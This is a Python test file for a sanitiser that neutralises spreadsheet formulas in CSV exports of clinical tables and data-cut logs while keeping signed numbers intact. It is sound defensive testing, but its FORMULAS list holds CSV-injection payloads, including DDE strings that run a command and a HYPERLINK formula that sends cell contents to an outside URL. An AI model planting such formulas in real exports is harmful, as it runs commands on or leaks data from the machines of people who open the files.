"""No cell of a CSV file is run by a spreadsheet, and no number is changed."""

import csv
import io
from pathlib import Path

import polars as pl
import pytest

from analysis.cut.cutoff import write_log
from analysis.spreadsheet import inert
from analysis.tlf.model import Row
from analysis.tlf.write_delimited import table_csv
from tests.tlf.samples import small

# From OWASP's page on CSV injection and from reports of it.
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    '=HYPERLINK("http://example.org?x="&A1,"Click")',
    '=WEBSERVICE("http://example.org")',
    "+cmd|' /C calc'!A0",
    "+1,2;3\t4",
    "-2+3+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "-A1",
    "+A1",
    "--A1",
    "-(1+1)*2",
]
NUMBERS = [
    "-0.5",
    "-12",
    "+3",
    "-1.2 (-3.4, 1.0)",
    "-0.5 (2.25)",
    "-12.5%",
    "-",
    "--",
    "+",
    "-7 [-9; -5]",
    "12.5+",
    "+2.5+",
    "-9.7, 0.9",
    "-46 to 45",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert inert(text) == f"'{text}"


@pytest.mark.parametrize("text", [*NUMBERS, "Nausea", "a = b", "", " ", "'quoted", "0.5 (-1, 2)", "<0.0001"])
def test_numbers_and_words_stay_as_they_are(text: str) -> None:
    assert inert(text) == text


def test_a_table_has_no_formula() -> None:
    texts = [text for text in FORMULAS if text[0] not in "\t\r"]  # which a display shows as a blank and a line end
    written = table_csv(small(*(Row.of(text, "-0.5") for text in texts)))
    rows = list(csv.reader(io.StringIO(written)))[1:]
    assert [row[0][0] for row in rows] == ["'"] * len(texts)
    assert {row[1] for row in rows} == {"-0.5"}


def test_the_log_of_a_cut_has_no_formula(tmp_path: Path) -> None:
    row = {"DATASET": "AE", "USUBJID": "=1+1", "SEQ": 1, "VARIABLE": "AETERM", "OLD": "=1+1", "NEW": "-0.5"}
    write_log(pl.DataFrame([row | {"ACTION": "changed", "REASON": "why"}]), tmp_path / "cut-log.csv")
    found = list(csv.DictReader((tmp_path / "cut-log.csv").open(encoding="utf-8")))
    assert [(r["USUBJID"], r["OLD"], r["NEW"]) for r in found] == [("'=1+1", "'=1+1", "-0.5")]
